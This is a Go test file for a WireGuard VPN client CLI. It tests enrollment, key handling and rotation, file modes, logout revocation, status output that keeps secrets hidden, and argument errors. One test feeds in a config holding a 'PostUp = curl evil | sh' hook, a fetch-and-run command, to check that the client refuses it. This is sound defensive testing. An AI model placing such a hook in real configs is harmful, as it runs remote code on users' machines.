package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ferryvpn/ferry/authn"
	"github.com/ferryvpn/ferry/cmd/internal/apitest"
	"github.com/ferryvpn/ferry/cmd/internal/client"
	"github.com/ferryvpn/ferry/cmd/internal/loginflow"
	"github.com/ferryvpn/ferry/cmd/internal/wire"
)

// TestEnroll is ferry login after the browser: a key pair made here, the
// public key only sent, the config written with the private key, 0600.
func TestEnroll(t *testing.T) {
	dir := isolate(t)
	srv := server(t)
	st := enrolled(t, srv, dir, "eng")

	// Files and modes.
	for _, name := range []string{fileConfig, fileKey, fileState} {
		if m := fileMode(t, filepath.Join(dir, name)); m != 0o600 {
			t.Errorf("%s has mode %04o, want 0600", name, m)
		}
	}
	if m := fileMode(t, dir); m != 0o700 {
		t.Errorf("%s has mode %04o, want 0700", dir, m)
	}

	// The config carries the key of the key file, whose public half is
	// the one the server holds.
	keyText, err := os.ReadFile(filepath.Join(dir, fileKey))
	if err != nil {
		t.Fatal(err)
	}
	key, err := parsePrivateKey(string(keyText))
	if err != nil {
		t.Fatal(err)
	}
	c, _, err := loadConf(dir)
	if err != nil {
		t.Fatal(err)
	}
	if c.PrivateKey == nil || !c.PrivateKey.Equal(key) {
		t.Error("the config's private key is not the key file's")
	}
	peer, err := srv.Profiles.Peer(t.Context(), st.Peer.ID)
	if err != nil {
		t.Fatal(err)
	}
	if peer.PublicKey != key.Public() || st.Peer.PublicKey != key.Public() {
		t.Errorf("server holds %s, the device's public key is %s", peer.PublicKey, key.Public())
	}
	if c.PeerPublicKey != srv.WireGuardPublicKey || c.Endpoint != apitest.Endpoint || c.Addresses[0].Addr().String() != st.Peer.Address ||
		c.KeepaliveSeconds != 25 || len(c.DNS) != 1 || len(c.Search) != 1 {
		t.Errorf("config %+v", c)
	}
	conf, err := os.ReadFile(filepath.Join(dir, fileConfig))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(conf), "[Interface]\nPrivateKey = "+key.reveal()+"\n") {
		t.Errorf("private key not first in [Interface]:\n%s", conf)
	}
	got, err := loadState(dir)
	if err != nil || got.Server != srv.URL || got.Device != "laptop" || got.Peer.ID != st.Peer.ID || got.Peer.Profile != "eng" {
		t.Errorf("state %+v, %v", got, err)
	}
	stateText, _ := os.ReadFile(filepath.Join(dir, fileState))
	if strings.Contains(string(stateText), key.reveal()) {
		t.Error("the state file holds the private key")
	}

	// wg-quick accepts the config.
	t.Run("wg-quick strip", func(t *testing.T) {
		if _, err := exec.LookPath("wg-quick"); err != nil {
			t.Skip("wg-quick not installed (apt wireguard-tools)")
		}
		if os.Geteuid() != 0 {
			t.Skip("wg-quick strip re-runs itself as root")
		}
		out, err := exec.Command("wg-quick", "strip", filepath.Join(dir, fileConfig)).CombinedOutput()
		if err != nil {
			t.Fatalf("wg-quick strip rejected the config: %v\n%s", err, out)
		}
		if !strings.Contains(string(out), "PrivateKey = "+key.reveal()) || strings.Contains(string(out), "DNS") {
			t.Errorf("stripped:\n%s", out)
		}
	})

	// Signing in again rotates the key and keeps the address.
	st2 := enrolled(t, srv, dir, "eng")
	keyText2, _ := os.ReadFile(filepath.Join(dir, fileKey))
	key2, err := parsePrivateKey(string(keyText2))
	if err != nil {
		t.Fatal(err)
	}
	if key2.Equal(key) {
		t.Error("the key was not rotated")
	}
	if st2.Peer.ID != st.Peer.ID || st2.Peer.Address != st.Peer.Address || st2.Peer.PublicKey != key2.Public() {
		t.Errorf("second sign-in: %+v, first %+v", st2.Peer, st.Peer)
	}
}

// TestEnrollRefusals: a profile not assigned, or a config ferry will not
// hand to wg-quick, writes nothing.
func TestEnrollRefusals(t *testing.T) {
	dir := isolate(t)
	srv := server(t)
	c := signedIn(t, srv, dir)
	_, err := enroll(t.Context(), c, dir, enrollment{Server: srv.URL, Device: "laptop", Profile: "secret"})
	if err == nil || !strings.Contains(err.Error(), `profile "secret" is not assigned to Alice <alice@example.com>`) {
		t.Errorf("unassigned profile: %v", err)
	}
	_, err = enroll(t.Context(), c, dir, enrollment{Server: srv.URL, Device: "bad/name"})
	if err == nil || !strings.Contains(err.Error(), "device") {
		t.Errorf("bad device name: %v", err)
	}
	if files, _ := filepath.Glob(filepath.Join(dir, "ferry0.*")); len(files) != 0 {
		t.Errorf("files left: %v", files)
	}
}

func TestWithPrivateKey(t *testing.T) {
	k, err := newPrivateKey()
	if err != nil {
		t.Fatal(err)
	}
	got, err := withPrivateKey(serverConf, k)
	if err != nil {
		t.Fatal(err)
	}
	want := strings.Replace(serverConf, "[Interface]\n", "[Interface]\nPrivateKey = "+k.reveal()+"\n", 1)
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if _, err := withPrivateKey(got, k); err == nil || !strings.Contains(err.Error(), "with a private key in it") {
		t.Errorf("a config with a key: %v", err)
	}
	if _, err := withPrivateKey(serverConf+"PostUp = curl evil | sh\n", k); err == nil || !strings.Contains(err.Error(), "PostUp is not allowed") {
		t.Errorf("a config with PostUp: %v", err)
	}
	// The key never prints.
	for _, s := range []string{k.String(), fmt.Sprintf("%v %+v %#v %s", k, k, k, k), fmt.Sprint(k.LogValue())} {
		if strings.Contains(s, k.reveal()) {
			t.Errorf("key printed: %s", s)
		}
	}
}

func TestDeviceName(t *testing.T) {
	for in, want := range map[string]string{
		"laptop":                "laptop",
		"alice's MacBook":       "alice-s MacBook",
		"-host.example.com":     "host.example.com",
		"ümlaut":                "mlaut",
		strings.Repeat("a", 80): strings.Repeat("a", 64),
	} {
		if got := deviceName(in); got != want {
			t.Errorf("deviceName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestLoginArguments(t *testing.T) {
	isolate(t)
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"login"}, "give the server URL: ferry login https://SERVER"},
		{[]string{"login", "http://vpn.example.com"}, `server URL "http://vpn.example.com": want https://host[:port]`},
		{[]string{"login", "https://vpn.example.com", "--ca", "/nonexistent/ca.pem"}, "reading CA file"},
		{[]string{"login", "a", "b"}, "accepts at most 1 arg(s)"},
		{[]string{"status", "-o", "yaml"}, `-o "yaml": want table or json`},
	}
	for _, tt := range tests {
		if _, err := ferry(t, tt.args...); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%v: %v, want %q", tt.args, err, tt.want)
		}
	}
}

// TestProfiles lists the caller's profiles, marking the one in use.
func TestProfiles(t *testing.T) {
	dir := isolate(t)
	srv := server(t)
	if _, err := ferry(t, "profiles"); !errors.Is(err, errNotSignedIn) {
		t.Errorf("not signed in: %v", err)
	}
	enrolled(t, srv, dir, "full")
	out, err := ferry(t, "profiles")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[1], "   eng  ") || !strings.HasPrefix(lines[2], "*  full ") ||
		!strings.Contains(lines[1], "10.0.0.0/16 tcp 22,443") || !strings.Contains(lines[2], "full") {
		t.Errorf("profiles:\n%s", out)
	}
	out, err = ferry(t, "profiles", "-o", "json")
	if err != nil {
		t.Fatal(err)
	}
	var l wire.ProfileList
	if err := decodeStrict(out, &l); err != nil || len(l.Profiles) != 2 {
		t.Errorf("profiles -o json: %+v %v\n%s", l, err, out)
	}
}

// TestLogout revokes this device's peer on the server and deletes the
// token, key and config.
func TestLogout(t *testing.T) {
	dir := isolate(t)
	srv := server(t)
	st := enrolled(t, srv, dir, "eng")
	out, stderr, err := ferryConsole(t, console{}, "logout")
	if err != nil || out != "Signed out of "+srv.URL+"; this device's key and profile are deleted.\n" || stderr != "" {
		t.Fatalf("logout: %q %q %v", out, stderr, err)
	}
	p, err := srv.Profiles.Peer(t.Context(), st.Peer.ID)
	if err != nil || p.Revoked == nil || p.RevokedReason != "signed out on the device" {
		t.Errorf("peer after logout: %+v %v", p, err)
	}
	for _, name := range []string{fileConfig, fileKey, fileState} {
		if _, err := os.Stat(filepath.Join(dir, name)); !os.IsNotExist(err) {
			t.Errorf("%s left: %v", name, err)
		}
	}
	if _, err := loginflow.LoadToken(dir, srv.URL, srv.CAFile); !errors.Is(err, loginflow.ErrNoToken) {
		t.Errorf("token left: %v", err)
	}
	if out, err := ferry(t, "logout"); err != nil || out != "Not signed in.\n" {
		t.Errorf("second logout: %q %v", out, err)
	}

	// With the session gone, the key and config are deleted anyway, and
	// the person is told the peer was not revoked.
	st = enrolled(t, srv, dir, "eng")
	sessions, err := srv.Sessions.List(t.Context(), "alice")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range sessions {
		if err := srv.Sessions.Revoke(t.Context(), s.ID, auditActor); err != nil {
			t.Fatal(err)
		}
	}
	out, stderr, err = ferryConsole(t, console{}, "logout")
	if err != nil || !strings.HasPrefix(out, "Signed out of ") || !strings.Contains(stderr, "the session has expired: this device's peer was not revoked on the server; its key is deleted") {
		t.Errorf("logout with an expired session: %q %q %v", out, stderr, err)
	}
	if _, err := os.Stat(filepath.Join(dir, fileKey)); !os.IsNotExist(err) {
		t.Errorf("key left: %v", err)
	}
}

// TestStatus reports the saved sign-in; -o json has stable fields.
func TestStatus(t *testing.T) {
	dir := isolate(t)
	srv := server(t)
	out, err := ferry(t, "status", "-o", "json")
	if err != nil {
		t.Fatal(err)
	}
	var s status
	if err := decodeStrict(out, &s); err != nil || s.SignedIn || s.Interface != ifaceName {
		t.Errorf("status before login: %+v %v\n%s", s, err, out)
	}
	if out, _ := ferry(t, "status"); !strings.HasPrefix(out, "Not signed in: run ferry login https://SERVER\n") {
		t.Errorf("status before login: %q", out)
	}

	st := enrolled(t, srv, dir, "eng")
	out, err = ferry(t, "status", "-o", "json")
	if err != nil {
		t.Fatal(err)
	}
	s = status{}
	if err := decodeStrict(out, &s); err != nil {
		t.Fatalf("status -o json: %v\n%s", err, out)
	}
	left := time.Until(st.Peer.Expires)
	if !s.SignedIn || s.Server != srv.URL || s.Email != "alice@example.com" || s.UserID != "alice" || s.Device != "laptop" ||
		s.PeerID != st.Peer.ID || s.Profile != "eng" || s.Address != st.Peer.Address || !s.Expires.Equal(st.Peer.Expires) ||
		s.Expired || s.SecondsLeft <= int64(left/time.Second)-5 || s.SecondsLeft > int64(left/time.Second) || s.Up {
		t.Errorf("status -o json: %+v", s)
	}
	out, err = ferry(t, "status")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Server:     " + srv.URL, "Profile:    eng", "Address:    " + st.Peer.Address, "Device:     laptop", "Expires:    ", " (in 1"} {
		if !strings.Contains(out, want) {
			t.Errorf("status lacks %q:\n%s", want, out)
		}
	}
	key, _ := os.ReadFile(filepath.Join(dir, fileKey))
	tok, _ := loginflow.LoadToken(dir, srv.URL, srv.CAFile)
	if strings.Contains(out, strings.TrimSpace(string(key))) || strings.Contains(out, tok) {
		t.Error("status printed a secret")
	}
}

// TestNoProfileYet: signing in before any profile is assigned says so
// plainly (issue: the browser said "Signed in" and then ferry failed).
func TestNoProfileYet(t *testing.T) {
	dir := isolate(t)
	srv := server(t)
	tlsConf, err := client.TLSConfig(srv.CAFile)
	if err != nil {
		t.Fatal(err)
	}
	bob := authn.Identity{UserID: "bob", Email: "bob@example.com", Groups: []string{"sales"}}
	c, err := client.New(client.Config{BaseURL: srv.URL, TLS: tlsConf, Token: srv.Token(t, bob)})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, err = enroll(t.Context(), c, dir, enrollment{Server: srv.URL, Device: "laptop"})
	if !noProfile(err) {
		t.Errorf("no profile assigned: %v, want the server's no-profile refusal", err)
	}
}

// TestDesktopEndPage: the browser's last page of ferry login names the
// account, the device and its profile, and the command to connect
// (issue #20: it named none of them).
func TestDesktopEndPage(t *testing.T) {
	p := wire.Peer{Device: "work-laptop", Profile: "eng", Address: "100.64.0.7"}
	page := desktopEndPage("https://vpn.example.com", "alice@example.com", p, false)
	text := strings.Join(page.Lines, " ")
	for _, want := range []string{"vpn.example.com", "alice@example.com", `"work-laptop"`, "eng", "100.64.0.7"} {
		if !strings.Contains(text, want) {
			t.Errorf("end page %q does not name %q", text, want)
		}
	}
	if page.Next != "sudo ferry up" || page.Failed {
		t.Errorf("next step %q, failed %v", page.Next, page.Failed)
	}
	if up := desktopEndPage("https://vpn.example.com", "alice@example.com", p, true); up.Next != "sudo ferry down && sudo ferry up" {
		t.Errorf("with the tunnel up: next step %q", up.Next)
	}
}
